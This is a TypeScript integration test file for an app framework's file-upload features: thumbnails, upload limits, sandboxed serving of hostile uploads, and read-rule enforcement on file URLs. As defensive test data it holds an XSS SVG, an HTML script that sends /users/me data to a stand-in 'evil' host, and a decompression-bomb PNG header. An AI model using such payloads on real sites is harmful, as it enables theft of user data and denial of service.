import { readdir, stat } from 'node:fs/promises';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createClient } from '@svc/client';
import type { CollectionDef, FileInfo, LiveEvent, ResourceList, SvcClient as AnyClient, UserCollectionDef } from '@svc/client';
import { appStores, runApp } from './helpers/app.js';
import type { AppHandle } from './helpers/app.js';
import { settle, until } from './helpers/wait.js';

/**
 * File properties in a whole app (issue 43): config.json declares them, @svc/client uploads and
 * removes them, thumbnails of the declared sizes are made once and kept, hostile uploads are
 * refused or served harmlessly, and no path (GET, $expand, a live query) hands out a file, or a
 * file's id, of an object or property the caller may not read.
 */
const APP: Record<string, string | object> = {
  'resources/users/config.json': { type: 'UserCollection', properties: {} },
  'resources/posts/config.json': {
    type: 'Collection',
    properties: {
      title: { type: 'string' },
      owner: { type: 'string' },
      hidden: { type: 'boolean' },
      photo: { type: 'file', types: ['image/*'], thumbs: ['32x32', '64x0'], maxSize: 2_000_000 },
      docs: { type: 'file', many: true, maxFiles: 2, maxSize: 100_000 },
      notes: { type: 'file', read: { owner: '@me.id' } },
    },
    rules: { read: { $or: [{ hidden: { $ne: true } }, { owner: '@me.id' }] }, list: { $or: [{ hidden: { $ne: true } }, { owner: '@me.id' }] } },
  },
  'resources/comments/config.json': { type: 'Collection', properties: { text: { type: 'string' }, post: { type: 'relation', collection: 'posts' } } },
};

type Post = { id: string; title?: string; owner?: string; hidden?: boolean; photo?: FileInfo | null; docs?: FileInfo[]; notes?: FileInfo | null };
interface Types {
  resources: { posts: CollectionDef<Post>; comments: CollectionDef<{ id: string; text?: string; post?: string | null }>; users: UserCollectionDef<{ id: string; username: string }> };
}
type SvcClient = AnyClient<Types>;
const resources: ResourceList = [
  { path: '/posts', kind: 'collection' },
  { path: '/comments', kind: 'collection' },
  { path: '/users', kind: 'users' },
];

const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>');
const HTML = Buffer.from('<html><script>fetch("/users/me").then(r=>r.text()).then(t=>fetch("//evil/?"+t))</script></html>');

/** A PNG whose header claims 100,000 x 100,000 pixels (a decompression bomb's header; its data is short). */
function bombPng(): Buffer {
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
  png.writeUInt32BE(100_000, 16);
  png.writeUInt32BE(100_000, 20);
  return png;
}

async function filesUnder(dir: string): Promise<string[]> {
  try {
    return ((await readdir(dir, { recursive: true, withFileTypes: true })) as { name: string; parentPath: string; isFile(): boolean }[])
      .filter((e) => e.isFile())
      .map((e) => join(e.parentPath, e.name).slice(dir.length + 1))
      .sort();
  } catch {
    return [];
  }
}

describe.each(appStores())('file properties in an app (%s store, disk files)', (store) => {
  let h: AppHandle;
  let filesDir: string;
  let png: Buffer;
  const clients: SvcClient[] = [];
  const ids: Record<string, string> = {};
  const root = { 'svc-ssh-key': 'k' };

  const clientFor = async (username?: string): Promise<SvcClient> => {
    const c = createClient<Types>(h.url, { resources });
    clients.push(c);
    if (username) await c.users.login({ username, password: 'pw' });
    return c;
  };
  const download = async (path: string, headers: Record<string, string> = {}): Promise<{ status: number; bytes: Buffer; headers: Headers }> => {
    const res = await fetch(h.url + path, { headers });
    return { status: res.status, bytes: Buffer.from(await res.arrayBuffer()), headers: res.headers };
  };

  beforeAll(async () => {
    h = await runApp(APP, { store });
    filesDir = join(h.dir, 'data', 'files');
    png = await sharp({ create: { width: 200, height: 100, channels: 3, background: { r: 200, g: 30, b: 30 } } }).png().toBuffer();
    for (const username of ['ann', 'bo']) ids[username] = ((await h.request('POST', '/users', { username, password: 'pw' }, root)).body as { id: string }).id;
  });
  afterAll(async () => {
    for (const c of clients) c.close();
    await h?.close();
  });

  it('@svc/client: a create with a FormData, upload (replace, add), removeFile; old files leave the disk', async () => {
    const ann = await clientFor('ann');
    const form = new FormData();
    form.append('$json', JSON.stringify({ title: 'with files', owner: ids.ann }));
    form.append('photo', new Blob([png], { type: 'text/plain' }), 'red.png');
    const post = await ann.posts.post(form);
    expect(post.photo).toMatchObject({ name: 'red.png', type: 'image/png', size: png.length, url: `/posts/${post.id}/photo/${post.photo?.id}` });
    const one = await ann.posts.upload(post.id, 'docs', new Blob([Buffer.from('first')]), { name: 'a.txt' });
    const two = await ann.posts.upload(post.id, 'docs', new TextEncoder().encode('second'), { name: 'b.txt', add: true });
    expect(two.docs?.map((d) => [d.name, d.type])).toEqual([
      ['a.txt', 'text/plain'],
      ['b.txt', 'text/plain'],
    ]);
    // A third is past maxFiles: refused, and nothing of it stays.
    await expect(ann.posts.upload(post.id, 'docs', new Blob(['third']), { name: 'c.txt', add: true })).rejects.toMatchObject({ status: 400 });
    const replaced = await ann.posts.upload(post.id, 'photo', new Blob([png]), { name: 'again.png' });
    expect(replaced.photo?.id).not.toBe(post.photo?.id);
    const removed = await ann.posts.removeFile(post.id, 'docs', one.docs?.[0]?.id);
    expect(removed.docs?.map((d) => d.name)).toEqual(['b.txt']);
    const onDisk = (await filesUnder(filesDir)).filter((f) => f.startsWith(`posts/${post.id}/`));
    expect(onDisk).toEqual([`posts/${post.id}/docs/${removed.docs?.[0]?.id}`, `posts/${post.id}/photo/${replaced.photo?.id}`].sort());
    expect(await ann.posts.removeFile(post.id, 'photo')).toMatchObject({ photo: null });
    await ann.posts.del(post.id);
    expect((await filesUnder(filesDir)).filter((f) => f.startsWith(`posts/${post.id}/`))).toEqual([]);
  });

  it('thumbnails: declared sizes only, made once and kept beside the image, removed with it; a bomb is refused', async () => {
    const post = (await h.request('POST', '/posts', undefined, {})).body as Post;
    const put = await fetch(`${h.url}/posts/${post.id}/photo?name=red.png`, { method: 'PUT', body: png });
    const photo = ((await put.json()) as Post).photo as FileInfo;
    const thumb = await download(`${photo.url}?thumb=32x32`);
    expect(thumb.status).toBe(200);
    expect(thumb.headers.get('content-type')).toBe('image/png');
    expect(thumb.headers.get('x-content-type-options')).toBe('nosniff');
    expect(await sharp(thumb.bytes).metadata()).toMatchObject({ width: 32, height: 32, format: 'png' });
    const wide = await download(`${photo.url}?thumb=64x0`);
    expect(await sharp(wide.bytes).metadata()).toMatchObject({ width: 64, height: 32 });
    const key = `posts/${post.id}/photo/${photo.id}`;
    expect((await filesUnder(filesDir)).filter((f) => f.startsWith(`posts/${post.id}/`))).toEqual([key, `${key}.32x32`, `${key}.64x0`]);
    // Kept: a second request serves the same file, not a new one.
    const made = (await stat(join(filesDir, `${key}.32x32`))).mtimeMs;
    await settle(30);
    expect((await download(`${photo.url}?thumb=32x32`)).bytes.equals(thumb.bytes)).toBe(true);
    expect((await stat(join(filesDir, `${key}.32x32`))).mtimeMs).toBe(made);
    for (const size of ['33x33', '100000x100000', '32x32x', ''])
      expect((await download(`${photo.url}?thumb=${encodeURIComponent(size)}`)).status).toBe(400);
    // A replacement removes the old image and its thumbnails.
    await fetch(`${h.url}/posts/${post.id}/photo`, { method: 'PUT', body: png });
    expect((await filesUnder(filesDir)).filter((f) => f.startsWith(`${key}`))).toEqual([]);
    // A header claiming 10 billion pixels: stored (it is a PNG), but no thumbnail is ever decoded.
    const bomb = ((await (await fetch(`${h.url}/posts/${post.id}/photo?name=bomb.png`, { method: 'PUT', body: bombPng() })).json()) as Post).photo as FileInfo;
    expect((await download(`${bomb.url}?thumb=32x32`)).status).toBe(415);
    expect((await filesUnder(filesDir)).filter((f) => f.includes('.32x32'))).toEqual([]);
  });

  it('hostile uploads: SVG or HTML as an image is refused by image/*; elsewhere it is a sandboxed download', async () => {
    const post = (await h.request('POST', '/posts', {})).body as Post;
    for (const [bytes, name] of [
      [SVG, 'cat.png'],
      [HTML, 'cat.jpg'],
    ] as const) {
      const form = new FormData();
      form.append('photo', new Blob([bytes], { type: 'image/png' }), name);
      const res = await fetch(`${h.url}/posts/${post.id}`, { method: 'PUT', body: form });
      expect(res.status).toBe(415);
    }
    const docs = (await (await fetch(`${h.url}/posts/${post.id}/docs?name=x.png`, { method: 'PUT', body: SVG, headers: { 'content-type': 'image/png' } })).json()) as Post;
    const served = await download((docs.docs?.[0] as FileInfo).url);
    expect(served.headers.get('content-disposition')).toMatch(/^attachment/);
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect((await filesUnder(filesDir)).filter((f) => f.startsWith(`posts/${post.id}/photo`))).toEqual([]);
  });

  it("$expand and live queries hand out no file of an object or property the caller may not read; its URL answers 404", async () => {
    const ann = await clientFor('ann');
    const bo = await clientFor('bo');
    await new Promise<void>((resolve) => bo.socketReady(resolve));
    const boEvents: LiveEvent<Post>[] = [];
    bo.posts.subscribe({ title: 'shared' }, (e) => boEvents.push(e));
    await until(() => boEvents.length === 1);
    const form = new FormData();
    form.append('$json', JSON.stringify({ title: 'shared', owner: ids.ann }));
    form.append('notes', new Blob(['ann only']), 'n.txt');
    form.append('photo', new Blob([png]), 'p.png');
    const shared = await ann.posts.post(form);
    const hiddenForm = new FormData();
    hiddenForm.append('$json', JSON.stringify({ title: 'hidden', owner: ids.ann, hidden: true }));
    hiddenForm.append('photo', new Blob([png]), 'h.png');
    const hidden = await ann.posts.post(hiddenForm);
    await until(() => boEvents.length === 2);
    const seen = (boEvents[1] as { object: Post }).object;
    expect(seen.photo?.id).toBe(shared.photo?.id);
    expect(seen).not.toHaveProperty('notes');
    for (const p of [shared, hidden]) await h.request('POST', '/comments', { text: 'c', post: p.id });
    const expanded = (await bo.comments.get({ $expand: 'post' } as never)) as unknown as { post: Post | string | null }[];
    const posts = expanded.map((c) => c.post).filter((p): p is Post => typeof p === 'object' && p !== null);
    expect(posts.map((p) => p.id)).toEqual([shared.id]);
    expect(posts[0]).not.toHaveProperty('notes');
    expect(JSON.stringify(expanded)).not.toContain(hidden.photo?.id as string);
    expect(JSON.stringify(expanded)).not.toContain(shared.notes?.id as string);
    // Known URLs do not help: each download asks the object's and the property's read rules.
    const boCookie = { cookie: `sid=${((await h.client()('POST', '/users/login', { username: 'bo', password: 'pw' })).headers.getSetCookie()[0] ?? '').slice(4).split(';')[0]}` };
    expect((await download((shared.notes as FileInfo).url, boCookie)).status).toBe(404);
    expect((await download((hidden.photo as FileInfo).url, boCookie)).status).toBe(404);
    expect((await download(`${(hidden.photo as FileInfo).url}?thumb=32x32`, boCookie)).status).toBe(404);
    expect((await download((shared.photo as FileInfo).url, boCookie)).status).toBe(200);
    const annCookie = { cookie: `sid=${((await h.client()('POST', '/users/login', { username: 'ann', password: 'pw' })).headers.getSetCookie()[0] ?? '').slice(4).split(';')[0]}` };
    expect((await download((shared.notes as FileInfo).url, annCookie)).bytes.toString()).toBe('ann only');
  });
});
